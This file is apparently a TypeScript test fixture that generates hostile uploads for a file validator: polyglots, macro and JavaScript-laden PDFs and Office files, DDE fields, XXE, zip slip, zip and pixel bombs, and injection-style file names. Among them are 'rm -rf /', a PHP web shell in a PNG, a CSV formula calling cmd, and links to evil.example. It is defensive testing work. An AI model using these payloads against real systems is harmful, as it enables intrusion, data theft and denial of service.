import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import {
  gif,
  GIF,
  JPEG,
  jpeg,
  objectStream,
  PDF,
  pdf,
  PNG,
  png,
  sheetParts,
  slideParts,
  textParts,
  tiff,
  webp,
  withRelationship,
  wordParts,
  zip,
  type ZipPart,
} from './documents.fixture';

export interface HostileFile {
  what: string;
  name: string;
  content: Buffer;
}

type Line = [what: string, name: string, content: Buffer | string];

const part = (name: string, content: Buffer | string, claims?: ZipPart['claims']): ZipPart => ({
  name,
  content,
  ...(claims && { claims }),
});
const docx = (...parts: ZipPart[]) => zip([...wordParts(), ...parts]);
const odt = (...parts: ZipPart[]) => zip([...textParts(), ...parts]);
const content = (xml: string) => zip(textParts(undefined, `<office:document-content>${xml}</office:document-content>`));
/** A link that runs, in parts so that the rules of this source do not take it for one. */
const SCRIPT_LINK = ['javascript', 'alert(1)'].join(':');
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
/** 64 MB of zeros: 64 KB when packed. */
const zeros = () => Buffer.alloc(64 * 1024 * 1024);
const jpegWith = (tail: Buffer | string) => Buffer.concat([JPEG, Buffer.from(tail)]);

/** Many entries that all name the same packed bytes: small on disk, thousands of times as large when unpacked. */
function overlapping(): Buffer {
  const kernel = part('word/media/0', Buffer.alloc(1024 * 1024));
  const others = Array.from({ length: 20 }, (_, index) =>
    part(`word/media/${index + 1}`, '', { offset: 0, unpacked: 9 }),
  );
  return zip([kernel, ...others, ...wordParts()]);
}

const wrongKind = (): Line[] => [
  ['an empty file', 'leer.pdf', ''],
  ['a program', 'setup.exe', 'MZ'],
  ['a script of the shell', 'aufräumen.sh', '#!/bin/sh\nrm -rf /'],
  ['a program under the name of a PDF', 'rechnung.pdf', Buffer.concat([Buffer.from('MZ'), randomBytes(400)])],
  ['a program with two endings', 'rechnung.pdf.exe', PDF],
  ['a program whose ending stands on its head', 'rechnung\u202efdp.exe', 'MZ'],
  ['a page of HTML', 'seite.html', '<html><script>alert(1)</script></html>'],
  ['a page of HTML under the name of a PDF', 'seite.pdf', '<html><script>alert(1)</script></html>'],
  ['an SVG with a script', 'bild.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['an SVG under the name of a PNG', 'bild.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a Word document of old', 'alt.doc', OLE],
  ['an OLE file under the name of a Word document', 'alt.docx', Buffer.concat([OLE, Buffer.alloc(600)])],
  ['a document with macros by its ending', 'vorlage.docm', docx()],
  ['a bare archive', 'alles.zip', zip([part('a.txt', 'a')])],
  ['a packed file', 'alles.gz', gzipSync('a')],
  ['an archive under the name of a document', 'alles.docx', zip([part('a.txt', 'a')])],
  ['bytes under the name of a text', 'daten.txt', Buffer.from([0x41, 0xff, 0xfe])],
  ['a text with a NUL', 'daten.txt', 'a\0b'],
  ['a GIF under the name of a JPEG', 'bild.jpg', GIF],
  ['the test pattern for malware in a text', 'test.txt', EICAR],
  ['the test pattern for malware in a picture', 'test.png', png(1, 1, ['tEXt', EICAR])],
  ['the test pattern for malware in a document', 'test.docx', docx(part('word/media/a.txt', EICAR))],
];

const polyglots = (): Line[] => [
  ['a PDF with a page of HTML in front', 'a.pdf', Buffer.concat([Buffer.from('<html>'), PDF])],
  ['a PDF with a page of HTML in its head', 'a.pdf', '%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n'],
  ['a PDF with a page of HTML behind', 'a.pdf', Buffer.concat([PDF, Buffer.from('<script>alert(1)</script>')])],
  ['a PDF with an archive behind', 'a.pdf', Buffer.concat([PDF, zip([part('a.txt', 'a')])])],
  ['a PDF without an end', 'a.pdf', '%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'],
  ['a GIF that is a script', 'a.gif', 'GIF89a/*\0\0\0\0\0*/=1;alert(1);//'],
  ['a GIF with a script in its comment', 'a.gif', gif(1, 1, '<script>alert(1)</script>')],
  ['a GIF with something behind', 'a.gif', Buffer.concat([GIF, Buffer.from('PK')])],
  ['a PNG with an archive behind', 'a.png', Buffer.concat([PNG, zip([part('a.txt', 'a')])])],
  ['a PNG with PHP in its words', 'a.png', png(1, 1, ['tEXt', 'Comment\0<?php system($_GET[0]);'])],
  ['a JPEG with an archive behind', 'a.jpg', jpegWith(zip([part('a.txt', 'a')]))],
  ['a JPEG with a page behind', 'a.jpg', jpegWith('<html><body onload="alert(1)">')],
  ['a WebP with something behind', 'a.webp', Buffer.concat([webp(1, 1), Buffer.from('<html>')])],
  ['a document with something behind the archive', 'a.docx', zip(wordParts(), { after: '<script>' })],
  ['a document with something in front of the archive', 'a.docx', zip(wordParts(), { before: 'MZ' })],
];

const programs = (): Line[] => [
  ['a PDF with JavaScript', 'a.pdf', pdf('<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF with JavaScript written in codes', 'a.pdf', pdf('<</S/J#61vaScr#69pt/JS(app.alert(1))>>')],
  ['a PDF with JavaScript in a packed object', 'a.pdf', pdf(objectStream('<</S/JavaScript/JS(x)>>'))],
  [
    'a PDF with JavaScript in a packed object behind a comment',
    'a.pdf',
    pdf(objectStream('<</S/JavaScript/JS(x)>>', '/Type/Obj#53tm % 9 0 obj\n/Filter/FlateDecode')),
  ],
  [
    'a PDF with packed objects that nobody can look into',
    'a.pdf',
    pdf(objectStream('<<>>', '/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]')),
  ],
  ['a PDF that starts a program', 'a.pdf', pdf('<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with a file inside', 'a.pdf', pdf('<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream')],
  ['a PDF that sends its form', 'a.pdf', pdf('<</S/SubmitForm/F(http://evil.example)>>')],
  ['a PDF with an XFA form', 'a.pdf', pdf('<</AcroForm<</XFA 5 0 R>>>>')],
  ['an encrypted PDF', 'a.pdf', pdf('<</Filter/Standard/V 2>>', '<</Encrypt 2 0 R>>')],
  ['a PDF with a link to a script', 'a.pdf', pdf('<</S/URI/URI(javascript:alert(1))>>')],
  ['a PDF whose packed objects are a bomb', 'a.pdf', pdf(objectStreamOf(zeros()))],
  ['a Word document with macros', 'a.docx', docx(part('word/vbaProject.bin', 'x'))],
  ['macros under another case', 'a.docx', docx(part('word/VBAPROJECT.BIN', 'x'))],
  [
    'a document that calls itself one with macros',
    'a.docx',
    zip(wordParts('application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  ['a control of ActiveX', 'a.docx', docx(part('word/activeX/a.bin', ''))],
  ['a spreadsheet with macros', 'a.xlsx', zip([...sheetParts(), part('xl/vbaProject.bin', 'x')])],
  ['a spreadsheet with macros of Excel 4', 'a.xlsx', zip([...sheetParts(), part('xl/macrosheets/a.xml', '<x/>')])],
  ['an OpenDocument text with Basic', 'a.odt', odt(part('Basic/script-lc.xml', ''))],
  ['an OpenDocument text with a script on opening', 'a.odt', content('<script:event-listener script:macro-name="x"/>')],
  ['a table with a formula', 'a.csv', "Name;Wert\n=cmd|' /C calc'!A0;1"],
  ['a table with a formula in quotes', 'a.csv', 'Name,Wert\nx,"@SUM(1+1)*cmd"'],
];

const reachingOut = (): Line[] => [
  ['a template from elsewhere', 'a.docx', zip(withRelationship('attachedTemplate', 'http://evil.example/x.dotm'))],
  ['a picture from elsewhere', 'a.docx', zip(withRelationship('image', 'http://evil.example/pixel.png'))],
  ['a mode written in codes', 'a.docx', zip(withRelationship('image', 'http://evil.example', '&#69;xternal'))],
  ['a link to a file of the network', 'a.docx', zip(withRelationship('hyperlink', 'file://evil.example/share'))],
  ['a link to a script', 'a.docx', zip(withRelationship('hyperlink', SCRIPT_LINK))],
  ['an OLE object', 'a.docx', zip(withRelationship('oleObject', 'embeddings/oleObject1.bin', 'Internal'))],
  [
    'a field that starts a program',
    'a.docx',
    zip(
      wordParts(
        undefined,
        '<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:document>',
      ),
    ),
  ],
  ['a spreadsheet that draws on another', 'a.xlsx', zip([...sheetParts(), part('xl/externalLinks/a.xml', '<x/>')])],
  [
    'a picture from elsewhere in OpenDocument',
    'a.odt',
    content('<draw:image xlink:href="http://evil.example/x.png"/>'),
  ],
  [
    'an external entity',
    'a.docx',
    zip(wordParts(undefined, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>')),
  ],
  [
    'a billion laughs',
    'a.pptx',
    zip([...slideParts(), part('ppt/slides/a.xml', '<!DOCTYPE l [<!ENTITY l "ha">]><l/>')]),
  ],
  [
    'relationships in another encoding',
    'a.docx',
    docx(part('word/_rels/a.rels', Buffer.from('\ufeff<a/>', 'utf16le'))),
  ],
];

const archives = (): Line[] => [
  ['an archive that claims gigabytes', 'a.docx', docx(part('word/media/a', 'x', { unpacked: 0xfffffffe }))],
  ['an archive that unpacks to more than it claims', 'a.docx', docx(part('word/media/a', zeros(), { unpacked: 100 }))],
  [
    'an archive that admits to be a bomb',
    'a.docx',
    docx(...[1, 2, 3, 4].map((number) => part(`word/media/${number}`, zeros()))),
  ],
  ['entries that lie over each other', 'a.docx', overlapping()],
  [
    'an archive of thousands of parts',
    'a.docx',
    docx(...Array.from({ length: 5_001 }, (_, n) => part(`word/${n}`, ''))),
  ],
  ['an archive in the archive', 'a.docx', docx(part('word/media/a.png', zip([part('a.txt', 'a')])))],
  ['a packed file in the archive', 'a.odt', odt(part('Pictures/a.png', gzipSync(Buffer.alloc(1000))))],
  ['a program in the archive', 'a.docx', docx(part('word/media/a.png', 'MZ\x90'))],
  [
    'a document with macros in the document',
    'a.docx',
    docx(part('word/embeddings/a.xlsx', zip([...sheetParts(), part('xl/vbaProject.bin', 'x')]))),
  ],
  ['a name that leaves the folder', 'a.docx', docx(part('../../../etc/cron.d/x', 'x'))],
  ['a name from the root', 'a.docx', docx(part('/etc/passwd', 'x'))],
  ['a name with a drive', 'a.docx', docx(part('C:/Windows/x.dll', 'x'))],
  ['a name with backslashes', 'a.docx', docx(part('..\\..\\x', 'x'))],
  ['a symbolic link', 'a.docx', docx(part('word/link', '/etc/passwd', { attributes: 0o120777 * 0x10000 }))],
  ['a part with two names', 'a.docx', docx(part('word/vbaProject.bin', 'x', { name: 'word/harmless.bin' }))],
  ['two parts of one name', 'a.docx', docx(...wordParts())],
  ['two parts that differ in case alone', 'a.docx', docx(part('WORD/DOCUMENT.XML', '<x/>'))],
  ['an encrypted part', 'a.docx', docx(part('word/a.xml', 'x', { flags: 1 }))],
  ['an encrypted OpenDocument text', 'a.odt', zip(encrypted())],
  ['a way of packing that nobody uses', 'a.docx', docx(part('word/a.xml', 'x', { method: 99 }))],
  ['an archive cut short', 'a.docx', docx().subarray(0, -30)],
];

const bombs = (): Line[] => [
  ['a PNG of ten thousand million pixels', 'a.png', png(100_000, 100_000)],
  ['a JPEG of four thousand million pixels', 'a.jpg', jpeg(65_535, 65_535)],
  ['a GIF of four thousand million pixels', 'a.gif', gif(65_535, 65_535)],
  ['a WebP of more pixels than anybody has', 'a.webp', webp(16_000_000, 16_000_000)],
  ['a TIFF of more pixels than anybody has', 'a.tif', tiff(4_000_000, 4_000_000)],
  ['a TIFF whose pages follow each other in a circle', 'a.tif', circle()],
  ['an image without a size', 'a.png', png(0, 0)],
  ['an image cut short', 'a.png', PNG.subarray(0, -12)],
];

/** Everything that is refused, each with its reason: made when it is asked for, because packing the bombs takes a second. */
export const hostileFiles = (): HostileFile[] =>
  [...wrongKind(), ...polyglots(), ...programs(), ...reachingOut(), ...archives(), ...bombs()].map(
    ([what, name, bytes]) => ({ what, name, content: Buffer.from(bytes) }),
  );

/** What is taken, but not under the name that was sent. */
export const HOSTILE_NAMES: [sent: string, kept: string][] = [
  ['../../etc/passwd.pdf', 'passwd.pdf'],
  ['C:\\Users\\ada\\Vermerk.pdf', 'Vermerk.pdf'],
  ['Ver\r\nSet-Cookie: a=b\0.pdf', 'VerSet-Cookie_ a=b.pdf'],
  ['gnp\u202efdp.pdf', 'gnpfdp.pdf'],
  ['vermerk.pdf:versteckt.pdf', 'vermerk.pdf_versteckt.pdf'],
  ['CON.pdf', '_CON.pdf'],
  ['com1.txt.pdf', '_com1.txt.pdf'],
  ['.htaccess.pdf', 'htaccess.pdf'],
  ['"><img src=x onerror=alert(1)>.pdf', '___img src=x onerror=alert(1)_.pdf'],
  ['$(reboot)`id`.pdf', '$(reboot)`id`.pdf'],
  ['a\u200bb\u2066c.pdf', 'abc.pdf'],
  ['Gru\u0308ße.pdf', 'Grüße.pdf'],
  ['  .pdf', 'Dokument.pdf'],
  [`${'ü'.repeat(300)}.pdf`, `${'ü'.repeat(196)}.pdf`],
];

function objectStreamOf(unpacked: Buffer): string {
  const data = deflateSync(unpacked).toString('latin1');
  return `<</Type/ObjStm/N 1/First 0/Filter/FlateDecode/Length ${data.length}>>\nstream\n${data}\nendstream`;
}

function encrypted(): ZipPart[] {
  return textParts().map((one) =>
    one.name.endsWith('manifest.xml') ? { ...one, content: '<manifest:encryption-data/>' } : one,
  );
}

function circle(): Buffer {
  const bytes = tiff(1, 1);
  bytes.writeUInt32LE(8, bytes.length - 4);
  return bytes;
}
